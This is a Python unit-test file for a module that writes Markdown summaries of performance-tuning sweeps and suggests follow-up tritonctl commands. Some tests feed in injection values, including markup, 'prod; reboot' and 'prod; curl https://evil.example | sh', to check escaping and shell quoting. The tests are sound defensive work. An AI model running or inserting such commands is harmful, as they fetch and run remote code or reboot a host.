# The summary: goal tied to outcome, the gain beside the base, in Markdown in which nothing that people wrote is markup.
from __future__ import annotations

import re
from dataclasses import replace

import pytest

from controlplane.domain.canonical import JsonObject
from controlplane.domain.sweep_compare import compared
from controlplane.domain.sweeps import SweepState
from controlplane.reports.standings import Findings, Place
from controlplane.reports.summary import Summary, markdown
from controlplane.reports.wording import said, times
from tests.unit.reports import synthetic


def test_goals_are_judged_as_the_answer_judged_them(rising: Findings) -> None:
    (goal,) = Summary(rising).goals
    assert (goal.name, goal.asked, goal.stakeholder, goal.hard) == (
        "snappy",
        "p99 latency at most 40 ms",
        "the mobile app",
        True,
    )
    assert rising.chosen is not None
    p99 = rising.figures[rising.chosen.number]["latency_ms p99"]
    assert goal.result == "met"
    assert f"{p99.value:.4g} ({p99.low:.4g} to {p99.high:.4g})" in goal.reason


def test_the_gain_is_that_of_the_blocks_in_the_same_turns(rising: Findings) -> None:
    material, chosen, base = rising.material, rising.chosen, rising.base
    assert chosen is not None
    assert base is not None
    (one,) = (
        each
        for each in compared(material.asked, material.measurements, base.candidate, chosen.candidate, 0.05)
        if each.name == "sustainable_rate"
    )
    (gain,) = Summary(rising).gains
    assert (
        gain
        == f"Sustainable rate: {times(one.ratio)} that of the base config ({base.name}), better; {one.pairs} pairs of blocks."
    )


def test_the_base_chosen_is_said_plainly(rising: Findings) -> None:
    material = rising.material
    assert rising.chosen is not None
    trials = tuple(replace(one, base=one.number == rising.chosen.number) for one in material.trials)
    summary = Summary(Findings(replace(material, trials=trials)))
    assert summary.gains == ("It is the base config: nothing that was tried is shown to be better.",)
    assert summary.outcome == f"Trial {rising.chosen.name}, version {rising.chosen.version} with the base config."


def test_the_effort_counts_every_trial_and_block(rising: Findings) -> None:
    trials, blocks = rising.material.trials, rising.material.measurements
    tried = sum(1 for one in trials if not one.refused)
    assert Summary(rising).effort.startswith(
        f"{tried} candidates in {len(blocks)} blocks, 1 could not be measured and 2 refused with a reason, in "
    )
    assert [one.place for one in rising.standings.values()].count(Place.FAILED) == 1


def test_the_markdown_is_one_page_that_ties_goal_to_outcome(rising: Findings) -> None:
    text = markdown(rising)
    assert rising.chosen is not None
    p99 = rising.figures[rising.chosen.number]["latency_ms p99"]
    assert text.startswith("# Sweep 12 of digits\n\n**Trial 12.")
    assert "| snappy | p99 latency at most 40 ms | the mobile app | met | " in text
    assert f"| {rising.chosen.name} (chosen) | " in text
    assert said(p99, "ms") in text
    assert f"`{rising.material.sweep.evidence}`" in text
    assert len(text.splitlines()) < 60
    assert f"    tritonctl sweep propose {rising.chosen.name} --env prod\n" in text


def test_nothing_that_people_wrote_is_markdown(rising: Findings) -> None:
    sweep = rising.material.sweep
    evil = "<b>[x](http://a.b)</b>\n# head | `code`"
    objectives = tuple({**one, "name": evil, "stakeholder": evil} for one in sweep.objectives)
    material = replace(rising.material, sweep=replace(sweep, model=evil, started_by=evil, objectives=objectives))
    lines = markdown(Findings(material)).splitlines()
    assert not any("<b>" in line or "[x](" in line for line in lines)
    assert sum(line.startswith("# ") for line in lines) == 1
    row = next(line for line in lines if "p99 latency at most" in line)
    assert row.replace("\\|", "").count("|") == 6


def test_without_an_answer_it_says_so_and_what_to_do() -> None:
    text = markdown(Findings(synthetic.queued(SweepState.FAILED, "the bench did not come up")))
    assert "**There is no answer: the sweep failed.**" in text
    assert "The bench did not come up." in text
    assert "    tritonctl sweep resume 12\n" in text
    assert "tritonctl sweep watch 12" in markdown(Findings(synthetic.queued()))


def test_a_command_can_be_pasted_whatever_the_environment_is_called(rising: Findings) -> None:
    sweep = replace(rising.material.sweep, environment="prod; reboot")
    propose, _ = Summary(Findings(replace(rising.material, sweep=sweep))).next_commands
    assert rising.chosen is not None
    assert propose == f"tritonctl sweep propose {rising.chosen.name} --env 'prod; reboot'"


@pytest.mark.parametrize("state", list(SweepState))
def test_of_a_capsule_no_command_is_of_the_sweep_that_has_its_number_here(rising: Findings, state: SweepState) -> None:
    sweep = replace(rising.material.sweep, environment="prod; curl https://evil.example | sh", state=state)
    answer = sweep.answer if state is SweepState.FINISHED else None
    stranger = replace(rising.material, sweep=replace(sweep, answer=answer), capsule="there/my sweep.capsule")

    text = markdown(Findings(stranger))

    assert Summary(Findings(stranger)).next_commands == ("tritonctl sweep replay 'there/my sweep.capsule'",)
    assert "where this capsule is from" in text
    assert "evil" not in text
    assert re.findall("tritonctl .*", text) == ["tritonctl sweep replay 'there/my sweep.capsule'"]


def test_a_replay_says_what_agrees_and_chooses_nothing(rising: Findings) -> None:
    sweep = rising.material.sweep
    reason = "a replay of sweep 7 of digits: 8 of 9 figures agree within their intervals and the margin, 1 differ"
    answer: JsonObject = {
        "chosen": None,
        "front": [],
        "reason": reason,
        "because": ["trial 3: p99 differs"],
        "replay": {},
    }
    material = replace(rising.material, sweep=replace(sweep, answer=answer, plan={**sweep.plan, "method": "replay"}))
    summary = Summary(Findings(material))
    assert summary.outcome == f"A{reason[1:]}."
    assert summary.reasons == ("Trial 3: p99 differs.",)
    assert summary.gains == ()
    assert "tritonctl sweep propose" not in markdown(Findings(material))


def test_where_nothing_is_chosen_a_goal_says_how_far_the_nearest_is_off(rising: Findings) -> None:
    sweep = rising.material.sweep
    strict: JsonObject = {**sweep.objectives[0], "bound": "0.001"}
    assert sweep.answer is not None
    answer: JsonObject = {**sweep.answer, "chosen": None, "front": [], "reason": "no trial is shown to"}
    material = replace(rising.material, sweep=replace(sweep, answer=answer, objectives=(strict,)))
    (goal,) = Summary(Findings(material)).goals
    assert goal.result == "missed"
    assert goal.reason.startswith("the nearest is trial 12.")
    assert goal.reason.endswith("ms, to be at most 0.001 ms")
    assert "| missed | the nearest is trial 12." in markdown(Findings(material))


def test_a_ladder_says_which_load_its_latencies_are_of(ladder: Findings) -> None:
    assert (
        "Where no load is named, latencies are those under 1 at once, and throughput is the most under any of the loads."
        in Summary(ladder).notes
    )
